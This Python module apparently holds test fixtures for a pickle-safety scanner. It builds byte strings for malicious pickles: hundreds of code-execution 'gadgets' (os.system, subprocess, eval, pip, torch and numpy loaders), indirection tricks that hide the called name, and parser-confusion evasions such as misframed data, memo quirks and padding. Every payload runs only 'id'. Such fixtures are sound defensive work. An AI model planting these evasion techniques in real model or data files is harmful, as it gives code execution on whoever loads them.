"""Pickles that would do harm, each by our own construction; every payload is inert (`echo`, `id`).

`ATTACKS` maps a name that says the trick to the bytes. Offsets and lengths are computed, not pasted.
"""

from __future__ import annotations

import pickle
import struct

STOP = b"."


def named(module: str, name: str) -> bytes:
    """GLOBAL, as in protocol 0 to 3."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def text(value: str) -> bytes:
    """SHORT_BINUNICODE or BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw if len(raw) < 256 else b"X" + struct.pack("<I", len(raw)) + raw


def stacked(module: str, name: str) -> bytes:
    """STACK_GLOBAL, as in protocol 4 and 5."""
    return text(module) + text(name) + b"\x93"


def args(*values: bytes) -> bytes:
    """A tuple of pushed values."""
    return b"(" + b"".join(values) + b"t"


def called(function: bytes, *values: bytes) -> bytes:
    """A function, its arguments and REDUCE."""
    return function + args(*values) + b"R"


def framed(body: bytes, protocol: int = 4) -> bytes:
    """PROTO, one FRAME around everything, STOP."""
    inside = body + STOP
    return b"\x80" + bytes([protocol]) + b"\x95" + struct.pack("<Q", len(inside)) + inside


def old(body: bytes) -> bytes:
    """Protocol 2 around a body."""
    return b"\x80\x02" + body + STOP


ID = text("id")

GADGETS: dict[str, tuple[str, ...]] = {
    "os:system": ("id",), "posix:system": ("id",), "nt:system": ("id",), "os:popen": ("id",), "os:execl": ("/bin/id", "id"), "os:spawnlp": ("id",), "os:putenv": ("A", "b"), "os:remove": ("x",),
    "subprocess:Popen": ("id",), "subprocess:run": ("id",), "subprocess:check_output": ("id",), "subprocess:getoutput": ("id",), "commands:getoutput": ("id",), "pty:spawn": ("id",), "_posixsubprocess:fork_exec": ("id",),
    "builtins:eval": ("1",), "builtins:exec": ("1",), "__builtin__:eval": ("1",), "__builtin__:execfile": ("x",), "builtins:compile": ("1", "x", "exec"), "builtins:__import__": ("os",), "builtins:open": ("x", "w"), "builtins:breakpoint": (), "builtins:input": ("x",),
    "runpy:run_path": ("x.py",), "runpy:_run_code": ("x",), "code:interact": (), "code:InteractiveInterpreter": (), "codeop:compile_command": ("1",), "timeit:timeit": ("1",), "timeit:main": (), "cProfile:run": ("1",), "profile:run": ("1",), "trace:Trace": (), "pdb:run": ("1",),
    "bdb:Bdb": (), "doctest:debug_script": ("1",), "pip:main": ("install",), "pip._internal:main": ("install",), "ensurepip:_run_pip": ("x",), "lib2to3.pgen2.grammar:Grammar.loads": ("x",), "lib2to3.pgen2.pgen:ParserGenerator.make_label": ("x",), "idlelib.run:Executive.runcode": ("1",),
    "idlelib.pyshell:ModifiedInterpreter.runcode": ("1",), "idlelib.autocomplete:AutoComplete.get_entity": ("1",), "idlelib.calltip:get_entity": ("1",), "idlelib.debugobj:ObjectTreeItem": ("1",), "asyncio.unix_events:_UnixSubprocessTransport._start": ("id",), "pkgutil:resolve_name": ("os:system",), "pydoc:locate": ("os.system",), "pydoc:pipepager": ("x", "id"),
    "uuid:_get_command_stdout": ("id",), "imaplib:IMAP4_stream": ("id",), "_osx_support:_find_build_tool": ("id",), "_osx_support:_read_output": ("id",), "distutils.file_util:write_file": ("x", "y"), "distutils.spawn:spawn": ("id",), "ctypes:CDLL": ("x.so",), "ctypes:cdll.LoadLibrary": ("x.so",), "marshal:loads": ("x",), "types:FunctionType": ("x",), "types:CodeType": ("x",),
    "importlib:import_module": ("os",), "importlib.util:spec_from_file_location": ("x", "y"), "zipimport:zipimporter": ("x",), "site:addsitedir": ("x",), "atexit:register": ("x",), "signal:signal": ("x",), "threading:Thread": ("x",), "_thread:start_new_thread": ("x",), "sys:exit": ("1",), "logging:FileHandler": ("x",), "logging.config:fileConfig": ("x",), "logging.config:listen": (),
    "shutil:rmtree": ("x",), "shutil:copyfile": ("a", "b"), "tempfile:NamedTemporaryFile": (), "io:FileIO": ("x", "w"), "_io:open_code": ("x",), "io:open": ("x",), "codecs:open": ("x", "w"), "gzip:open": ("x",), "sqlite3:connect": ("x",), "linecache:getline": ("x",), "fileinput:FileInput": ("x",), "zipfile:ZipFile": ("x",), "pathlib:Path.write_text": ("x", "y"), "pathlib:Path.unlink": ("x",),
    "urllib.request:urlopen": ("http://x",), "urllib.request:urlretrieve": ("http://x",), "http.client:HTTPSConnection": ("x",), "socket:create_connection": ("x",), "ftplib:FTP": ("x",), "smtplib:SMTP": ("x",), "requests:get": ("http://x",), "requests.api:get": ("http://x",), "aiohttp.client:ClientSession": (), "webbrowser:open": ("x",), "mailcap:findmatch": ("x",), "pipes:Template": (),
    "numpy.testing._private.utils:runstring": ("1",), "numpy:load": ("x.npy",), "numpy:fromfile": ("x",), "numpy:savetxt": ("x",), "numpy.f2py.crackfortran:myeval": ("1",), "numpy.f2py.crackfortran:param_eval": ("1",), "numpy.f2py.diagnose:run": (), "numpy.distutils.exec_command:exec_command": ("id",), "numpy.f2py.capi_maps:getinit": ("1",),
    "torch:load": ("x.pt",), "torch.hub:load": ("a/b",), "torch.ops:load_library": ("x.so",), "torch:ops.load_library": ("x.so",), "torch.utils.collect_env:run": ("id",), "torch.utils.bottleneck.__main__:run_cprofile": ("1",), "torch.utils.bottleneck.__main__:run_autograd_prof": ("1",), "torch._dynamo.guards:GuardBuilder.get": ("1",), "torch.fx.experimental.symbolic_shapes:ShapeEnv.evaluate_guards_expression": ("1",),
    "torch.utils._config_module:ConfigModule.load_config": ("x",), "torch.serialization:load": ("x",), "torch.utils.data.datapipes.utils.decoder:basichandlers": ("x",), "torch.jit.unsupported_tensor_ops:execWrapper": ("1",), "torch._inductor.codecache:compile_file": ("x",), "torch.utils.cpp_extension:load": ("x",), "torch.jit:load": ("x",), "torch.multiprocessing:spawn": ("x",),
    "transformers.dynamic_module_utils:get_class_in_module": ("x",), "transformers:pipeline": ("x",), "pandas:read_csv": ("x",), "pandas:read_pickle": ("x",), "pandas.io.pickle:read_pickle": ("x",), "pandas:eval": ("1",), "joblib:load": ("x",), "mlflow.projects.backend.local:_run_entry_point": ("id",), "keras.models:load_model": ("x",), "dill:loads": ("x",), "cloudpickle.cloudpickle:_make_function": ("x",),
    "cloudpickle.cloudpickle:_builtin_type": ("CodeType",), "cloudpickle:loads": ("x",), "pickle:load": ("x",), "_pickle:Unpickler": ("x",), "shelve:open": ("x",), "sklearn.datasets:fetch_openml": ("x",), "scipy.io:loadmat": ("x",), "yaml:load": ("x",), "jinja2:Template": ("x",), "sympy:sympify": ("1",), "numexpr:evaluate": ("1",), "IPython:embed": (), "h5py:File": ("x",), "datasets:load_dataset": ("x",),
    "huggingface_hub:hf_hub_download": ("x",), "multiprocessing:Process": ("x",), "multiprocessing.util:spawnv_passfds": ("id",), "concurrent.futures.process:ProcessPoolExecutor": (), "inspect:getsource": ("x",), "gc:get_objects": (), "venv:create": ("x",), "compileall:compile_dir": ("x",), "py_compile:compile": ("x",), "turtle:write_docstringdict": ("x",), "antigravity:geohash": ("x",), "cgitb:handler": (),
    "wsgiref.simple_server:make_server": ("x",), "xmlrpc.client:ServerProxy": ("x",), "telnetlib:Telnet": ("x",), "poplib:POP3": ("x",), "nntplib:NNTP": ("x",), "dbm.dumb:open": ("x",), "ast:literal_eval": ("1",), "unittest.mock:_importer": ("os",), "string:Formatter": (), "functools:reduce": ("x",), "operator:methodcaller": ("x",), "itertools:starmap": ("x",), "copyreg:add_extension": ("os", "system", "1"),
}  # fmt: skip


def _gadgets() -> dict[str, bytes]:
    found: dict[str, bytes] = {}
    for full, values in GADGETS.items():
        module, _, name = full.partition(":")
        pushed = [text(value) for value in values]
        dotted = "." in name
        body = called(stacked(module, name) if dotted else named(module, name), *pushed)
        found[f"gadget {full}"] = framed(body) if dotted else old(body)
    return found


def _indirections() -> dict[str, bytes]:
    getattr_ = named("__builtin__", "getattr")
    import_ = called(named("importlib", "import_module"), text("os"))
    system = called(getattr_, import_, text("system"))
    getter = called(named("operator", "attrgetter"), text("system"))
    inner = old(called(named("os", "system"), ID))
    packed = b"B" + struct.pack("<I", len(inner)) + inner
    return {
        "getattr of an imported module": old(called(system, ID)),
        "attrgetter of an imported module": old(called(called(getter, import_), ID)),
        "methodcaller on an imported module": old(called(called(named("operator", "methodcaller"), text("system"), ID), import_)),
        "partial of getattr": old(called(called(named("functools", "partial"), system), ID)),
        "reduce over getattr": old(called(named("functools", "reduce"), getattr_, args(import_, text("system")))),
        "dotted name through random": framed(called(stacked("random", "_os.system"), ID)),
        "dotted name through an allowed package": framed(called(stacked("torch", "serialization.os.system"), ID)),
        "dotted name through collections": framed(called(stacked("collections", "_sys.modules.get"), text("os"))),
        "__globals__ of an allowed function": framed(called(stacked("torch._utils", "_rebuild_tensor_v2.__globals__.get"), ID)),
        "__builtins__ of numpy": framed(called(stacked("numpy", "__builtins__.get"), text("eval"))),
        "getattr of __builtins__": old(called(called(getattr_, named("numpy", "__builtins__"), text("get")), text("eval"))),
        "dunder of a class": old(called(getattr_, named("collections", "OrderedDict"), text("__subclasses__"))),
        "nested pickle.loads": old(called(named("pickle", "loads"), packed)),
        "nested _load_from_bytes": old(called(named("torch.storage", "_load_from_bytes"), packed)),
        "nested joblib over BytesIO": old(called(named("joblib", "load"), called(named("io", "BytesIO"), packed))),
        "name from memo": old(text("os") + b"q\x00" + b"0" + text("system") + b"q\x01" + b"0h\x00h\x01\x93" + args(ID) + b"R"),
        "name joined from pieces": framed(called(named("__builtin__", "getattr"), text(""), text("join")) + b"(" + b"]" + b"(" + text("o") + text("s") + b"e" + b"tR" + text("system") + b"\x93" + args(ID) + b"R"),
        "name by bytes.decode": framed(called(stacked("builtins", "bytes.decode"), b"C\x02os") + text("system") + b"\x93" + args(ID) + b"R"),
        "name by rot13": framed(called(named("codecs", "decode"), text("bf"), text("rot13")) + text("system") + b"\x93" + args(ID) + b"R"),
        "map over a list": old(called(named("builtins", "list"), called(named("builtins", "map"), named("os", "system"), b"]" + ID + b"a"))),
        "BUILD into an allowed function": old(named("torch._utils", "_rebuild_tensor_v2") + b"}" + text("__code__") + text("x") + b"sb"),
        "BUILD with slots into a class": old(named("collections", "OrderedDict") + b"N}" + text("__reduce__") + named("os", "system") + b"s\x86b"),
        "SETITEM into sys.modules": old(named("sys", "modules") + text("json") + named("os", "path") + b"s"),
        "EXT1": old(b"\x82\x01" + args(ID) + b"R"),
        "EXT4 after add_extension": old(called(named("copyreg", "add_extension"), text("os"), text("system"), b"K\x05") + b"0\x84\x05\x00\x00\x00" + args(ID) + b"R"),
        "INST": b"(" + b"S'id'\n" + b"ios\nsystem\n.",
        "OBJ": b"(" + named("os", "system") + b"S'id'\no.",
        "NEWOBJ of Popen": old(named("subprocess", "Popen") + args(ID) + b"\x81"),
        "NEWOBJ_EX of Popen": framed(stacked("subprocess", "Popen") + args(ID) + b"}\x92"),
        "defaultdict with a sink": old(called(named("collections", "defaultdict"), named("os", "system"))),
        "_rebuild_from_type_v2 with a sink": old(called(named("torch._tensor", "_rebuild_from_type_v2"), named("os", "system"), named("torch", "Tensor"), args(ID), b"}")),
        "_reconstructor of an unknown class": old(called(named("copy_reg", "_reconstructor"), named("evil", "Thing"), named("__builtin__", "object"), b"N")),
        "ufunc by name of numpy.load": old(called(named("numpy.core", "_ufunc_reconstruct"), text("numpy"), text("load"))),
        "enum with two arguments": old(called(named("transformers.trainer_utils", "IntervalStrategy"), text("a"), text("b"))),
        "scipy distribution with its own text": old(named("scipy.stats._continuous_distns", "norm_gen") + b")\x81}" + text("_parse_arg_template") + text("import os; os.system('id')") + b"sb"),
        "call of a call": old(called(called(named("collections", "OrderedDict")), ID)),
        "call of a bound method": old(called(called(getattr_, text("x"), text("format_map")), ID)),
        "unknown class": old(named("vendor.secret", "Model") + b")\x81}b"),
        "class of __main__": old(named("__main__", "Model") + b")\x81}b"),
        "package class with code of its own": old(named("numpy.lib._datasource", "DataSource") + b")\x81}b"),
        "file beside, elsewhere": old(named("joblib.numpy_pickle", "NDArrayWrapper") + b")\x81}" + text("filename") + text("../../x.npy") + b"sb"),
    }  # fmt: skip


def _evasions() -> dict[str, bytes]:
    payload = named("os", "system") + b"(S'id'\ntR"
    # Loading from a file takes the 20 bytes from behind the frame and then runs the payload; loading from
    # memory takes them 4 bytes earlier and then meets a short string that has the payload inside.
    inside = b"X" + struct.pack("<I", 20) + b"zzzz"
    short = b"\x8c" + bytes([2 + len(payload)]) + b"aa"
    hidden = b"\x80\x04\x95" + struct.pack("<Q", len(inside)) + inside + b"A" * 15 + b"\xc2" + short + payload + STOP
    # The same with a line: its end is not in the frame.
    line = b"Vzz"
    hidden_line = b"\x80\x04\x95" + struct.pack("<Q", len(line)) + line + b"x\n" + payload + STOP
    return {
        "INT in hexadecimal first": b"I0x10\n0" + payload + STOP,
        "LONG in hexadecimal first": b"L0x10L\n0" + payload + STOP,
        "NUL inside an INT": b"I1\x00junk\n0" + payload + STOP,
        "octal INT": b"I010\n0" + payload + STOP,
        "STRING that is no ASCII": b"S'\xc3\xa9'\n0" + payload + STOP,
        "frame that ends inside a string": hidden,
        "frame that ends inside a line": hidden_line,
        "frame within a frame": b"\x80\x04\x95" + struct.pack("<Q", 30) + b"\x95" + struct.pack("<Q", 200) + payload + STOP,
        "frame longer than the file": b"\x80\x04\x95" + struct.pack("<Q", 1 << 40) + payload + STOP,
        "unknown protocol": b"\x80\x09" + payload + STOP,
        "no STOP": b"\x80\x02" + payload,
        "garbage after the call": b"\x80\x02" + payload + b"\xff\xff\xff",
        "truncated string after the call": b"\x80\x02" + payload + b"X\xff\xff\xff\x7fabc",
        "trailing data": b"\x80\x02" + payload + STOP + b"\x00\x01\x02junk",
        "second pickle in a row": pickle.dumps({"a": 1}) + b"\x80\x02" + payload + STOP,
        "third pickle after padding": pickle.dumps(1) + pickle.dumps(2) + b"\x80\x02" + payload + STOP,
        "PUT after POP": b"\x80\x02" + text("os") + b"q\x00" + text("x") + b"0q\x05" + text("system") + b"\x93" + args(ID) + b"R.",
        "MEMOIZE twice": b"\x80\x04" + text("os") + b"\x94\x94" + b"0" + text("system") + b"\x94" + b"0h\x01h\x02\x93" + args(ID) + b"R.",
        "STACK_GLOBAL from the memo at once": b"\x80\x04" + stacked("os", "system") + args(ID) + b"R.",
        "memo number with blanks and sign": b"S'os'\np +7\n0S'system'\np 8\n0g7\ng 8\n\x93(S'id'\ntR.",
        "memo number with underscore": b"S'os'\np1_0\n0S'system'\np8\n0g10\ng8\n\x93(S'id'\ntR.",
        "result dropped": b"\x80\x02" + payload + b"0N.",
        "mark dropped by POP": b"\x80\x02(0" + payload + STOP,
        "DUP of the name": b"\x80\x02" + named("os", "system") + b"2" + args(ID) + b"R.",
        "POP_MARK over chaff": b"\x80\x02(K\x01K\x021" + payload + STOP,
        "two million no-ops": b"\x80\x02" + b"N0" * 1_100_000 + payload + STOP,
        "nine megabytes of string": b"\x80\x02X" + struct.pack("<I", 9 << 20) + b"A" * (9 << 20) + b"0" + payload + STOP,
        "deep nesting": b"\x80\x02" + b"]" * 200_000 + b"0" * 200_000 + payload + STOP,
        "deep tuples": b"\x80\x02)" + b"\x85" * 100_000 + b"0" + payload + STOP,
        "GLOBAL with a blank": b"cos \nsystem\n(S'id'\ntR.",
        "imported and not called": b"cos\nsystem\n.",
        "protocol 0 in text": b"(dp0\nS'x'\np1\ncos\nsystem\np2\n(S'id'\np3\ntp4\nRp5\ns.",
        "between a thousand harmless calls": old(called(named("collections", "OrderedDict")) * 1000 + payload),
        "memo entry behind a large batch": _behind_batch(),
        "SETITEM on a remembered global inside a batch": old(named("sys", "modules") + b"q\x00" + b"}(" + text("k") * 900 + b"h\x00" + text("json") + named("os", "path") + b"s" + b"u"),
        "persistent id that holds a call": b"\x80\x02" + called(named("os", "system"), ID) + b"Q.",
    }  # fmt: skip


def _behind_batch() -> bytes:
    entries = b"".join(text(f"key{number}") + b"\x94" + b"K\x01" for number in range(20_000))
    body = b"}\x94(" + text("os") + b"\x94" + text("system") + b"\x94" + entries + b"u"
    return framed(b"0".join([body, b""]) + b"h\x01h\x02\x93" + args(ID) + b"R")


ATTACKS: dict[str, bytes] = {**_gadgets(), **_indirections(), **_evasions()}

# What loading these does is unknown, or fails; a look is enough.
SUSPICIOUS = frozenset(
    {"_reconstructor of an unknown class", "unknown class", "class of __main__", "GLOBAL with a blank"}
)
